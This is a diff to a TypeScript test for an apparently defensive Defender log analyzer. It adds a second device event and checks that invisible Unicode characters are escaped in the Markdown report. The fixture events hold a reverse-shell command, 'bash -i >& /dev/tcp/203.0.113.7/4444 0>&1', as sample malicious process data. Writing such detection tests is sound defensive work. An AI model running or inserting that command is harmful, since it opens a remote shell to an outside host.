@@ -47,7 +47,17 @@ function g11Events(): string {
     InitiatingProcessFolderPath: '/usr/bin/dash',
     ProcessCommandLine: `bash -i >& /dev/tcp/203.0.113.7/4444 0>&1 ${HIDDEN}\u034f`,
   };
-  return `${JSON.stringify({ category: 'AdvancedHunting-DeviceProcessEvents', properties })}\n`;
+  // A second device, so that the device table and the per-device headings (with the report's own 🖥️) are drawn.
+  const other = {
+    ...properties,
+    DeviceId: '9b2e4d6f8a0c1e3b5d7f9a1c3e5b7d9f0a2c4e6b',
+    DeviceName: 'web2',
+    ReportId: 2,
+    ProcessCommandLine: 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1',
+  };
+  return [properties, other]
+    .map((p) => `${JSON.stringify({ category: 'AdvancedHunting-DeviceProcessEvents', properties: p })}\n`)
+    .join('');
 }
 
 describe('invisible characters from event text', () => {
@@ -66,7 +76,7 @@ describe('invisible characters from event text', () => {
     const result = await analyze(fromString(g11Events(), 'hidden.ndjson'), { detectors: defenderDetectors });
     expect(result.alerts.length).toBeGreaterThan(0);
     const md = renderMarkdown(result);
-    const deviceLine = md.split('\n').find((l) => l.includes('**Device:**')) ?? '';
+    const deviceLine = md.split('\n').find((l) => l.includes('**DeviceName:**') && l.includes('web1')) ?? '';
     expect(deviceLine).toContain('web1⟪U+E0159⟫');
     expect(decodeSelectors(deviceLine)).toBe('');
     // The only selectors left are the emoji presentation selectors of the report's own headings.
